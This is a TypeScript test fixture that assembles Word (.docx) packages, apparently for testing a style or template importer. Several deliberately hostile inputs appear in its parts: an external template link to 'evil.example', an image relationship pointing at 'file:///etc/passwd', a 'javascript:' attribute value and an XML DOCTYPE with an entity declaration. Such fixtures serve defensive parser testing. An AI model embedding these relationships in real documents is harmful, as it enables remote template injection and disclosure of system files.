import { zipBytes, type ZipPart } from '../zip-bytes';

/** Word templates made for the tests. */
export const w = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';
export const office = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
export const mainType = 'application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml';
export const types = (type: string) =>
  `<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="${type}"/></Types>`;
export const relationships = (...inner: string[]) =>
  `<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${inner.join('')}</Relationships>`;
export const relationship = (type: string, target: string, more = '') =>
  `<Relationship Id="r${type}" Type="${office}/${type}" Target="${target}"${more}/>`;

export const germanStyles = `<w:styles ${w}>
  <w:docDefaults><w:rPrDefault><w:rPr><w:rFonts w:asciiTheme="minorHAnsi" w:hAnsiTheme="minorHAnsi"/><w:sz w:val="23"/><w:lang w:val="de-DE"/></w:rPr></w:rPrDefault></w:docDefaults>
  <w:style w:type="paragraph" w:default="1" w:styleId="Standard"><w:name w:val="Normal"/></w:style>
  <w:style w:type="paragraph" w:styleId="berschrift1"><w:name w:val="heading 1"/><w:basedOn w:val="Standard"/><w:link w:val="Gone"/>
    <w:pPr><w:numPr><w:numId w:val="7"/></w:numPr><w:jc w:val="center"/><w:spacing w:before="111"/></w:pPr>
    <w:rPr><w:vanish/><w:color w:val="AA2200" w:themeColor="accent1"/><w:sz w:val="javascript:1"/></w:rPr></w:style>
  <w:style w:type="paragraph" w:styleId="Quote"><w:name w:val="House &lt;box&gt;"/><w:basedOn w:val="berschrift1"/></w:style>
  <w:style w:type="table" w:styleId="T"><w:name w:val="Grid"/></w:style>
</w:styles>`;

/** A template as Word writes it in another language, with some of its parts otherwise. */
export function template(changed: Record<string, string | Uint8Array | null> = {}): Promise<Uint8Array> {
  const parts: Record<string, string | Uint8Array | null> = {
    '[Content_Types].xml': types(mainType),
    '_rels/.rels': relationships(relationship('officeDocument', 'word/document.xml')),
    'word/_rels/document.xml.rels': relationships(
      relationship('styles', 'styles.xml'),
      relationship('theme', 'theme/theme1.xml'),
      relationship('attachedTemplate', 'https://evil.example/x.dotm', ' TargetMode="External"'),
      relationship('image', 'file:///etc/passwd', ' TargetMode="External"'),
    ),
    'word/document.xml': `<w:document ${w}><w:body><w:p/><w:sectPr><w:pgSz w:w="9000" w:h="12000"/><w:pgMar w:top="700" w:right="800" w:bottom="900" w:left="1000"/></w:sectPr></w:body></w:document>`,
    'word/theme/theme1.xml':
      '<a:theme xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"><a:themeElements><a:fontScheme><a:minorFont><a:latin typeface="Garamond"/></a:minorFont></a:fontScheme></a:themeElements></a:theme>',
    'word/styles.xml': germanStyles,
    ...changed,
  };
  const kept = Object.entries(parts).flatMap(([name, content]): ZipPart[] =>
    content === null ? [] : [{ name, content }],
  );
  return zipBytes(kept);
}

export const doctype = '<!DOCTYPE x [<!ENTITY a "b">]><w:styles xmlns:w="x">&a;</w:styles>';
